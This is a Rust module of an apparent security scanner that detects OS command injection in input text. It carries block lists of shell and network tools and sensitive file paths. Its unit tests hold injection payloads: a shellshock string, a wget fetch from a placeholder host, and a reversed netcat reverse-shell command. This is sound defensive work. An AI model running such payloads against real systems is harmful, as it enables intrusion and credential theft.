//! OS command injection: a small shell tokenizer finds command positions
//! (after `;`, `|`, `||`, `&&`, `&`, newlines, inside `` `...` `` and
//! `$(...)`), reads the word there the way a shell would (quotes and
//! backslashes removed, `$IFS` as a blank, `/bin/` stripped) and judges it
//! against known commands and the look of their arguments.

use crate::text::{Hits, Text, WordSet};
use crate::{Family, score};

/// Commands that are never English words.
const UNAMBIGUOUS: &[&[u8]] = &[
    b"wget",
    b"curl",
    b"ncat",
    b"netcat",
    b"bash",
    b"zsh",
    b"ksh",
    b"tcsh",
    b"getent",
    b"nslookup",
    b"ifconfig",
    b"ipconfig",
    b"netstat",
    b"chmod",
    b"chown",
    b"mkfifo",
    b"powershell",
    b"pwsh",
    b"certutil",
    b"bitsadmin",
    b"wmic",
    b"systeminfo",
    b"tasklist",
    b"busybox",
    b"whoami",
    b"uname",
    b"useradd",
    b"crontab",
    b"nohup",
    b"xterm",
    b"python3",
    b"python2",
    b"perl",
    b"socat",
    b"telnet",
    b"cmd.exe",
    b"powershell.exe",
    b"msiexec",
    b"rundll32",
    b"regsvr32",
    b"mshta",
    b"cscript",
    b"wscript",
    b"base64",
    b"xxd",
    b"sh",
    b"nc",
    b"id",
    b"ls",
];

/// Commands that are also words; they need shell-looking arguments.
const AMBIGUOUS: &[&[u8]] = &[
    b"cat",
    b"ps",
    b"rm",
    b"cp",
    b"mv",
    b"echo",
    b"set",
    b"type",
    b"more",
    b"find",
    b"sleep",
    b"ping",
    b"dig",
    b"printf",
    b"awk",
    b"sed",
    b"rev",
    b"hostname",
    b"pwd",
    b"env",
    b"kill",
    b"dir",
    b"del",
    b"net",
    b"reg",
    b"php",
    b"python",
    b"ruby",
    b"node",
    b"java",
    b"ssh",
    b"scp",
    b"ftp",
    b"tftp",
    b"touch",
    b"head",
    b"tail",
    b"sort",
    b"grep",
    b"expr",
    b"time",
    b"exec",
    b"eval",
    b"source",
    b"export",
    b"cd",
    b"cmd",
    b"start",
    b"call",
    b"copy",
    b"less",
    b"nl",
    b"od",
    b"tac",
    b"host",
    b"whois",
    b"sudo",
    b"su",
    b"cut",
    b"xargs",
    b"tee",
    b"dd",
    b"tar",
    b"zip",
    b"unzip",
    b"file",
    b"stat",
    b"who",
    b"w",
    b"last",
    b"finger",
    b"mail",
    b"lynx",
    b"timeout",
    b"bg",
    b"fg",
    b"jobs",
    b"nmap",
    b"sort",
    b"uniq",
    b"wc",
    b"ipconfig",
];

/// Commands of `cmd.exe` and Windows, which ignores case in command names.
const WINDOWS_COMMANDS: &[&[u8]] = &[
    b"dir",
    b"type",
    b"del",
    b"net",
    b"copy",
    b"ipconfig",
    b"ping",
    b"set",
    b"echo",
    b"start",
    b"call",
    b"cmd",
    b"tasklist",
    b"systeminfo",
    b"whoami",
    b"certutil",
    b"bitsadmin",
    b"wmic",
    b"powershell",
    b"pwsh",
    b"msiexec",
    b"rundll32",
    b"regsvr32",
    b"mshta",
    b"cscript",
    b"wscript",
    b"reg",
    b"find",
    b"more",
    b"hostname",
    b"nslookup",
    b"netstat",
    b"timeout",
    b"tftp",
    b"ftp",
    b"cd",
    b"cmd.exe",
    b"powershell.exe",
];

static WINDOWS: std::sync::LazyLock<WordSet> =
    std::sync::LazyLock::new(|| WordSet::new(WINDOWS_COMMANDS));

static COMMANDS: std::sync::LazyLock<(WordSet, WordSet)> =
    std::sync::LazyLock::new(|| (WordSet::new(UNAMBIGUOUS), WordSet::new(AMBIGUOUS)));

pub(crate) fn check(t: &Text, hits: &mut Hits) {
    let b = t.bytes();
    shellshock(t, hits);
    if let Some(p) = t.find("$ifs").or_else(|| t.find("${ifs}")) {
        hits.add(Family::Rce, score::STRONG, "rce.ifs", p);
    }
    if let Some(p) = t.find("/dev/tcp/").or_else(|| t.find("/dev/udp/")) {
        hits.add(Family::Rce, score::STRONG, "rce.dev-tcp", p);
    }
    if let Some(p) = t.find("$((") {
        hits.add(Family::Rce, score::MEDIUM, "rce.arithmetic-expansion", p);
    }
    let mut seen = 0;
    // Every separator below is one of these bytes (`$(` has its `(`).
    let separators = if t.has_any(b";|&\n\r(") { b } else { &[][..] };
    let may_have_blocks = t.has(b'<') || (t.has(b'\n') && t.has_any(b"`~"));
    let mut blocks: Option<Vec<std::ops::Range<usize>>> = None;
    let mut in_block = |i: usize| {
        may_have_blocks
            && blocks
                .get_or_insert_with(|| crate::text::code_blocks(b))
                .iter()
                .any(|r| r.contains(&i))
    };
    for (i, &c) in separators.iter().enumerate() {
        let kind = match c {
            // Inside a code block, a line break ends a line of the code
            // shown and an operator joins commands of that code: only an
            // operator right after a quote breaks out of a shell string.
            b';' | b'|' | b'&' | b'\n' | b'\r' | b'('
                if !(i > 0 && matches!(b[i - 1], b'\'' | b'"')) && in_block(i) =>
            {
                continue;
            }
            b';' | b'|' | b'&' | b'\n' | b'\r' => Sep::Plain,
            b'(' if i > 0 && b[i - 1] == b'$' => Sep::Subst,
            _ => continue,
        };
        seen += 1;
        if seen > 2048 {
            break;
        }
        command_at(t, i + 1, kind, hits, i);
    }
    if t.has(b'`') {
        for i in substituting_backticks(b).take(2048) {
            command_at(t, i + 1, Sep::Subst, hits, i);
        }
    }
    // A command as the whole value: only with clearly shell-like arguments.
    command_at(t, 0, Sep::Start, hits, 0);
    globbed_sensitive_file(t, hits);
}

/// The backticks that open a command substitution. A shell pairs
/// backticks left to right; of those pairs, markdown fences (three or more
/// in a row), double backticks (an empty substitution in a shell, a code
/// span in markdown), a code span inside prose (`` the `id` field ``, words
/// on both sides and no shell operator beside it) and a backtick nothing
/// closes (a shell refuses to run it) substitute nothing.
fn substituting_backticks(b: &[u8]) -> impl Iterator<Item = usize> + '_ {
    let mut singles = memchr::memchr_iter(b'`', b).filter(move |&i| {
        let run_start = i == 0 || b[i - 1] != b'`';
        let run_end = b.get(i + 1) != Some(&b'`');
        run_start && run_end
    });
    std::iter::from_fn(move || {
        loop {
            let open = singles.next()?;
            let close = singles.next()?;
            if !is_prose_code_span(b, open, close) {
                return Some(open);
            }
        }
    })
}

/// `` `name` `` between words on one line, as markdown and chat messages
/// quote code: a word (or an opening bracket after one) before it, and a
/// word after it, at most after closing punctuation.
fn is_prose_code_span(b: &[u8], open: usize, close: usize) -> bool {
    let inner = &b[open + 1..close];
    !inner.is_empty()
        && !inner.contains(&b'\n')
        && (inner.len() <= 80 && prose_before(&b[..open]) && prose_after(&b[close + 1..])
            || inner.len() <= 256 && example_line(&b[..open], &b[close + 1..]))
}

/// A letter or digit of any script; CJK text puts no blank around code.
fn is_word_byte(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c >= 0x80
}

fn prose_before(before: &[u8]) -> bool {
    let before = before
        .strip_suffix(b"(")
        .or_else(|| before.strip_suffix(b"["))
        .unwrap_or(before);
    match before.last() {
        Some(&c) if c >= 0x80 => true,
        Some(b' ' | b'\t') => {
            let line_start = memchr::memrchr(b'\n', before).map_or(0, |p| p + 1);
            if is_list_marker(before[line_start..].trim_ascii()) {
                return true;
            }
            let words = before.trim_ascii_end();
            let words = words
                .strip_suffix(b".")
                .or_else(|| words.strip_suffix(b","))
                .or_else(|| words.strip_suffix(b":"))
                .unwrap_or(words);
            // A word, or the span before it in a list (`` `id`, `name` ``).
            words.last().is_some_and(|&c| is_word_byte(c) || c == b'`')
        }
        _ => false,
    }
}

/// `-`, `*`, `+`, `1.`, `2)`: a markdown list item opens the line.
fn is_list_marker(line: &[u8]) -> bool {
    match line {
        [b'-' | b'*' | b'+'] => true,
        [digits @ .., b'.' | b')'] => !digits.is_empty() && digits.iter().all(u8::is_ascii_digit),
        _ => false,
    }
}

/// `` For example:\n\n`application/zip`\n ``: a span on a line (or in a
/// paragraph) of its own, after a sentence that introduces it with a colon.
fn example_line(before: &[u8], after: &[u8]) -> bool {
    let intro = strip_breaks_end(before);
    let breaks = |gap: &[u8]| gap.iter().any(|&c| matches!(c, b'\n' | b'>' | b'<'));
    let own_line = breaks(&before[intro.len()..]);
    let introduced =
        intro.len() >= 2 && intro.ends_with(b":") && is_word_byte(intro[intro.len() - 2]);
    let rest = strip_breaks_start(after);
    let line_ends = rest.is_empty() || breaks(&after[..after.len() - rest.len()]);
    own_line && introduced && line_ends
}

/// Whether `tag` (without its angle brackets) is a plain tag (`p`, `/p`, `br`).
fn is_plain_tag(tag: &[u8]) -> bool {
    !tag.is_empty() && tag.iter().all(|c| c.is_ascii_alphanumeric() || *c == b'/')
}

/// `b` without trailing blanks and plain HTML tags (`</p><p>`, `<br>`).
fn strip_breaks_end(mut b: &[u8]) -> &[u8] {
    for _ in 0..8 {
        b = b.trim_ascii_end();
        let Some(inner) = b.strip_suffix(b">") else {
            break;
        };
        match inner.iter().rposition(|&c| c == b'<') {
            Some(p) if is_plain_tag(&inner[p + 1..]) => b = &inner[..p],
            _ => break,
        }
    }
    b
}

/// `b` without leading blanks and plain HTML tags.
fn strip_breaks_start(mut b: &[u8]) -> &[u8] {
    for _ in 0..8 {
        b = b.trim_ascii_start();
        let Some(inner) = b.strip_prefix(b"<") else {
            break;
        };
        match inner.iter().position(|&c| c == b'>') {
            Some(p) if is_plain_tag(&inner[..p]) => b = &inner[p + 1..],
            _ => break,
        }
    }
    b
}

fn prose_after(after: &[u8]) -> bool {
    let after = after
        .strip_prefix(b")")
        .or_else(|| after.strip_prefix(b"]"))
        .unwrap_or(after);
    let (after, ended_sentence) = match after.first() {
        Some(b'.' | b'!' | b'?') => (&after[1..], true),
        Some(b',' | b':') => (&after[1..], false),
        _ => (after.strip_prefix(b"'s").unwrap_or(after), false),
    };
    match after.first() {
        Some(&c) if c >= 0x80 => true,
        // A closing tag (`</p>`) ends the paragraph; the end of the text
        // ends it right after closing punctuation.
        Some(b'<') => after.get(1) == Some(&b'/'),
        None => ended_sentence,
        Some(b' ') => after
            .trim_ascii_start()
            .first()
            .copied()
            .is_some_and(|c| is_word_byte(c) || matches!(c, b'(' | b'[' | b'`')),
        _ => false,
    }
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Sep {
    Start,
    Plain,
    Subst,
}

/// `() {` opening the value: bash (before the 2014 fix) ran what follows a
/// function definition found at the start of an environment variable. The
/// same characters later in a value define nothing.
fn shellshock(t: &Text, hits: &mut Hits) {
    let b = t.bytes();
    let start = crate::text::skip_ws(b, 0);
    let Some(rest) = b[start..].strip_prefix(b"()") else {
        return;
    };
    let brace = rest.iter().take(3).position(|&c| c == b'{');
    if let Some(p) = brace {
        let body = &rest[p + 1..];
        if body.iter().take(16).any(|&c| c == b':' || c == b';') {
            hits.add(Family::Rce, score::STRONG, "rce.shellshock", start);
        }
    }
}

/// Read the word at `i` as a shell would; returns it (lowercase, at most 32
/// bytes) and the index after it.
fn read_word(b: &[u8], mut i: usize) -> (Word, usize) {
    loop {
        while i < b.len() && (b[i].is_ascii_whitespace() || b[i] == b'{' || b[i] == b'(') {
            i += 1;
        }
        let rest = &b[i..];
        if rest.starts_with(b"$ifs") {
            i += 4;
            if b.get(i) == Some(&b'$') && b.get(i + 1).is_some_and(u8::is_ascii_digit) {
                i += 2;
            }
        } else if rest.starts_with(b"${ifs}") {
            i += 6;
        } else {
            break;
        }
    }
    let mut w = Word {
        buf: [0; 32],
        len: 0,
    };
    while i < b.len() {
        let c = b[i];
        // What expands to nothing (`$()`, `${x}`, `$@`, ``` `` ```) or to
        // its decoded text (`$'\x69d'`) is no break in the word.
        if let Some((expansion, next)) = expansion(b, i) {
            for &e in expansion.iter().take(w.buf.len() - w.len) {
                w.buf[w.len] = e;
                w.len += 1;
            }
            i = next;
            continue;
        }
        if c.is_ascii_whitespace()
            || matches!(
                c,
                b';' | b'|' | b'&' | b'<' | b'>' | b'(' | b')' | b'`' | b'+'
            )
        {
            break;
        }
        if c == b'$' && (b[i..].starts_with(b"$ifs") || b[i..].starts_with(b"${ifs}")) {
            break;
        }
        if !matches!(c, b'\'' | b'"' | b'\\') && w.len < w.buf.len() {
            w.buf[w.len] = c;
            w.len += 1;
        }
        i += 1;
    }
    (w, i)
}

/// The expansion at `i` that a shell replaces inside a word: an empty
/// substitution, an unset or positional parameter, or ANSI-C quoting;
/// with the bytes it stands for and the index after it.
fn expansion(b: &[u8], i: usize) -> Option<(Vec<u8>, usize)> {
    let rest = &b[i..];
    match rest {
        [b'`', b'`', ..] => Some((Vec::new(), i + 2)),
        [b'$', b'(', b')', ..] => Some((Vec::new(), i + 3)),
        [b'$', b'@' | b'*' | b'0'..=b'9', ..] => Some((Vec::new(), i + 2)),
        [b'$', b'{', ..] if !rest.starts_with(b"${ifs}") => {
            let close = rest.iter().take(34).position(|&c| c == b'}')?;
            let name = &rest[2..close];
            name.iter()
                .all(|c| c.is_ascii_alphanumeric() || *c == b'_')
                .then_some((Vec::new(), i + close + 1))
        }
        [b'$', b'\'', ..] => {
            let close = rest[2..].iter().take(128).position(|&c| c == b'\'')?;
            Some((ansi_c(&rest[2..2 + close]), i + 2 + close + 1))
        }
        _ => None,
    }
}

/// The text of ANSI-C quoting (`$'...'`): `\xHH`, `\NNN` and `\c`.
fn ansi_c(s: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(s.len());
    let mut i = 0;
    while i < s.len() {
        if s[i] != b'\\' || i + 1 == s.len() {
            out.push(s[i]);
            i += 1;
            continue;
        }
        let digits = |from: usize, radix: u32, max: usize| {
            s[from..]
                .iter()
                .take(max)
                .take_while(|c| (**c as char).is_digit(radix))
                .count()
        };
        let (value, len) = match s[i + 1] {
            b'x' => {
                let n = digits(i + 2, 16, 2);
                let v = std::str::from_utf8(&s[i + 2..i + 2 + n]).ok();
                (v.and_then(|v| u8::from_str_radix(v, 16).ok()), 2 + n)
            }
            b'0'..=b'7' => {
                let n = digits(i + 1, 8, 3);
                let v = std::str::from_utf8(&s[i + 1..i + 1 + n]).ok();
                (v.and_then(|v| u8::from_str_radix(v, 8).ok()), 1 + n)
            }
            c => (Some(c), 2),
        };
        match value {
            Some(v) => out.push(v),
            None => out.extend_from_slice(&s[i..i + len]),
        }
        i += len;
    }
    out
}

/// Where a shell looks for commands named by a path.
const BIN_DIRS: &[&str] = &[
    "/bin/",
    "/usr/bin/",
    "/sbin/",
    "/usr/sbin/",
    "/usr/local/bin/",
];

/// The command a path with glob characters (`/???/c?t`, `/usr/bin/wh*`)
/// names: the first known command in a system directory it matches.
fn globbed_command(word: &[u8]) -> Option<Vec<u8>> {
    if !word.iter().any(|c| matches!(c, b'?' | b'*' | b'[')) || !word.starts_with(b"/") {
        return None;
    }
    BIN_DIRS.iter().find_map(|dir| {
        UNAMBIGUOUS.iter().chain(AMBIGUOUS).find_map(|cmd| {
            let path = [dir.as_bytes(), cmd].concat();
            glob_matches(word, &path).then_some(path)
        })
    })
}

/// Files a command injection reads, for globbed spellings of their paths.
const SENSITIVE_FILES: &[&[u8]] = &[
    b"/etc/passwd",
    b"/etc/shadow",
    b"/etc/group",
    b"/etc/hosts",
    b"/etc/issue",
    b"/proc/self/environ",
    b"/root/.ssh/id_rsa",
    b"/root/.bash_history",
];

/// A path spelled with glob characters that a shell expands to a
/// sensitive file (`/e*c/p*sswd`, `/???/p??s??`). A pattern needs two
/// letters of its own: `/*/*` names every file.
fn globbed_sensitive_file(t: &Text, hits: &mut Hits) {
    if !t.has(b'/') || !t.has_any(b"?*[") {
        return;
    }
    let b = t.bytes();
    let is_break = |c: &u8| {
        c.is_ascii_whitespace()
            || matches!(
                c,
                b';' | b'|' | b'&' | b'`' | b'(' | b')' | b'<' | b'>' | b'\'' | b'"'
            )
    };
    let starts = (0..b.len()).filter(|&i| b[i] == b'/' && (i == 0 || is_break(&b[i - 1])));
    for at in starts.take(256) {
        let len = b[at..].iter().position(is_break).unwrap_or(b.len() - at);
        let word = &b[at..at + len.min(64)];
        let letters = word.iter().filter(|c| c.is_ascii_alphanumeric()).count();
        let glob = word.iter().any(|c| matches!(c, b'?' | b'*' | b'['));
        if glob && letters >= 2 && SENSITIVE_FILES.iter().any(|f| glob_matches(word, f)) {
            hits.add(Family::Rce, score::MEDIUM + 1, "rce.globbed-path", at);
            return;
        }
    }
}

/// Whether `pattern` (`?`, `*`, `[...]`, as a shell globs one path)
/// matches `name`; `?`, `*` and classes never match `/`.
pub(crate) fn glob_matches(pattern: &[u8], name: &[u8]) -> bool {
    let (mut p, mut n) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while n < name.len() {
        let c = name[n];
        let step = match pattern.get(p) {
            Some(b'*') => {
                star = Some((p, n));
                p += 1;
                continue;
            }
            Some(b'?') if c != b'/' => Some(1),
            Some(b'[') => class_len(&pattern[p..], c),
            Some(&pc) if pc == c => Some(1),
            _ => None,
        };
        match (step, star) {
            (Some(len), _) => {
                p += len;
                n += 1;
            }
            (None, Some((sp, sn))) if name[sn] != b'/' => {
                p = sp + 1;
                n = sn + 1;
                star = Some((sp, sn + 1));
            }
            _ => return false,
        }
    }
    pattern[p..].iter().all(|&c| c == b'*')
}

/// The length of the class `[...]` at the start of `p` when it matches
/// `c`, `None` when it does not (or is not a class).
fn class_len(p: &[u8], c: u8) -> Option<usize> {
    let close = p.iter().skip(2).position(|&x| x == b']')? + 2;
    let body = &p[1..close];
    let (negated, body) = match body.first() {
        Some(b'!' | b'^') => (true, &body[1..]),
        _ => (false, body),
    };
    let mut hit = false;
    let mut k = 0;
    while k < body.len() {
        if k + 2 < body.len() && body[k + 1] == b'-' {
            hit |= (body[k]..=body[k + 2]).contains(&c);
            k += 3;
        } else {
            hit |= body[k] == c;
            k += 1;
        }
    }
    (hit != negated && c != b'/').then_some(close + 1)
}

/// A word read from the input, unquoted, at most 32 bytes.
struct Word {
    buf: [u8; 32],
    len: usize,
}

fn command_at(t: &Text, i: usize, sep: Sep, hits: &mut Hits, at: usize) {
    let b = t.bytes();
    let (w, end) = read_word(b, i);
    let word = &w.buf[..w.len];
    // Brace expansion (`{id,}`): the first word it gives is the command.
    let word = match word.strip_suffix(b"}") {
        Some(inner) if inner.contains(&b',') => inner
            .split(|&c| c == b',')
            .find(|alt| !alt.is_empty())
            .unwrap_or_default(),
        _ => word,
    };
    let globbed = globbed_command(word);
    let word = globbed.as_deref().unwrap_or(word);
    if word.is_empty() {
        return;
    }
    let had_path = word.contains(&b'/') || word.contains(&b'\\');
    let name = match word.iter().rposition(|&c| c == b'/' || c == b'\\') {
        Some(p) => &word[p + 1..],
        None => word,
    };
    let name = name.strip_suffix(b".exe").unwrap_or(name);
    if name.len() < 2 || name.len() > 14 {
        return;
    }
    let unambiguous = COMMANDS.0.contains(name);
    let ambiguous = !unambiguous && COMMANDS.1.contains(name);
    if !unambiguous && !ambiguous {
        return;
    }
    // Unix file names are case-sensitive: `NC` or `Curl` is a word, not a
    // command. Windows commands are found whatever their case.
    if !WINDOWS.contains(name) && has_upper(&t.s.as_bytes()[i..end]) {
        return;
    }
    let bin_path = had_path
        && (word.starts_with(b"/bin/")
            || word.starts_with(b"/usr/")
            || word.starts_with(b"/sbin/"));
    let args = shell_args(b, end);
    let sc = match (sep, unambiguous, args) {
        (Sep::Subst, _, _) => score::STRONG,
        (_, _, _) if bin_path => score::STRONG,
        (Sep::Plain, true, Args::Shellish | Args::None) => score::STRONG,
        (Sep::Plain, true, Args::Words) if name.len() > 2 => score::MEDIUM,
        (Sep::Plain, false, Args::Shellish) => score::MEDIUM + 1,
        (Sep::Plain, false, Args::None) if name.len() >= 3 => score::WEAK,
        (Sep::Start, true, Args::Shellish) => score::MEDIUM,
        (Sep::Start, false, Args::Shellish) if name.len() >= 3 => score::WEAK,
        _ => return,
    };
    hits.add(Family::Rce, sc, "rce.command", at);
}

fn has_upper(b: &[u8]) -> bool {
    b.iter().any(u8::is_ascii_uppercase)
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Args {
    /// Nothing, or straight into another separator.
    None,
    /// Plain words.
    Words,
    /// Flags, paths, variables, redirections, URLs, addresses.
    Shellish,
}

fn shell_args(b: &[u8], i: usize) -> Args {
    let mut j = i;
    while j < b.len() && (b[j] == b' ' || b[j] == b'\t') {
        j += 1;
    }
    if b[i.min(b.len())..j].windows(4).any(|w| w == b"$ifs")
        || b[i.min(b.len())..].starts_with(b"$ifs")
        || b[i.min(b.len())..].starts_with(b"${ifs}")
    {
        return Args::Shellish;
    }
    let Some(&c) = b.get(j) else {
        return Args::None;
    };
    if matches!(c, b';' | b'|' | b'&' | b'`' | b'\n' | b')' | b'"' | b'\'') {
        return Args::None;
    }
    if matches!(
        c,
        b'-' | b'/' | b'$' | b'~' | b'\\' | b'%' | b'>' | b'<' | b'.'
    ) {
        return Args::Shellish;
    }
    let end = b[j..]
        .iter()
        .position(|c| c.is_ascii_whitespace())
        .map_or(b.len(), |p| j + p);
    let arg = &b[j..end];
    // A drive path (`c:\\`, `c:/`).
    if arg.len() >= 3
        && arg[0].is_ascii_alphabetic()
        && arg[1] == b':'
        && matches!(arg[2], b'\\' | b'/')
    {
        return Args::Shellish;
    }
    let is_addr = arg.iter().filter(|&&c| c == b'.').count() >= 2
        && arg
            .iter()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b':' | b'/'));
    if is_addr || crate::text::find_bytes(arg, b"://").is_some() {
        return Args::Shellish;
    }
    Args::Words
}

#[cfg(test)]
mod tests {
    use super::*;

    fn score_of(s: &str) -> u32 {
        let lower = s.to_ascii_lowercase();
        let t = Text::new(s, &lower);
        let mut h = Hits::default();
        check(&t, &mut h);
        h.best(Family::Rce)
    }

    #[test]
    fn attacks() {
        for a in [
            "ax--exec=`id`--remote=origin",
            "; cat /et'c/pa'ss'wd",
            "cmd=127.0.0.1 && ls /etc",
            ";wget http://some_host/sh311.sh",
            "|getent hosts somehost.burpcollaborator.net.&",
            "|getent+hosts+somehost.burpcollaborator.net.&",
            ";getent$IFS$9hosts$IFS$9somehost.burpcollaborator.net;echo$IFS$9$((3482*7301));",
            "| set /a 3482*7301",
            "() { :; }; echo ; /bin/bash -c 'cat /etc/passwd'",
            "\";$(printf 'hsab/nib/e- 43211.0.0.721 cn'|rev)\"",
            "`curl -L http://google.com`",
            "x; id",
            "a|whoami",
            "a `cat /etc/passwd`",
            "name=`id`",
            "`id` `",
        ] {
            assert!(score_of(a) >= score::MEDIUM, "missed: {a}");
        }
    }

    #[test]
    fn globs() {
        assert!(glob_matches(b"/???/??t", b"/bin/cat"));
        assert!(glob_matches(b"/e*c/p*sswd", b"/etc/passwd"));
        assert!(glob_matches(b"/usr/bin/wh[a-z]ami", b"/usr/bin/whoami"));
        assert!(glob_matches(b"/bin/c[!u]t", b"/bin/cat"));
        assert!(!glob_matches(b"/bin/c[!a]t", b"/bin/cat"));
        assert!(!glob_matches(b"/*", b"/etc/passwd"), "* stops at /");
        assert!(!glob_matches(b"/???/??t", b"/usr/bin/cat"));
        assert!(glob_matches(b"/*/*", b"/etc/passwd"));
    }

    #[test]
    fn ansi_c_quoting() {
        assert_eq!(ansi_c(b"\\x69\\x64"), b"id");
        assert_eq!(ansi_c(b"\\151\\144"), b"id");
        assert_eq!(ansi_c(b"w\\hoami"), b"whoami");
        assert_eq!(ansi_c(b"\\xzz"), b"\\xzz");
    }

    #[test]
    fn benign() {
        for b in [
            "echo in the mirror",
            "curl and divergence",
            "exec noun",
            "bash away in the gym",
            "zsh is the best!",
            "java lang courses",
            "ls 300 lexus",
            "nc 8000 controller",
            "The parameter 5 is&|.",
            "The Senora found herself a heroine; more than that, she became aware",
            "DEAR FINN,--I think it would do; copy should reach us second post",
            "url=/?usr=subject;-",
            "I went home; cat was hungry",
            "Tom & Jerry",
            "fish & chips; set menu",
            "You can use a tool such as `curl` to submit a value",
            "Gets a project by its `id`. Returns",
            "The `parent` and `source` objects are present",
            "```sh\nls -la\n```",
            "a repository. `last",
        ] {
            assert!(score_of(b) < score::MEDIUM - 1, "false positive: {b}");
        }
    }
}
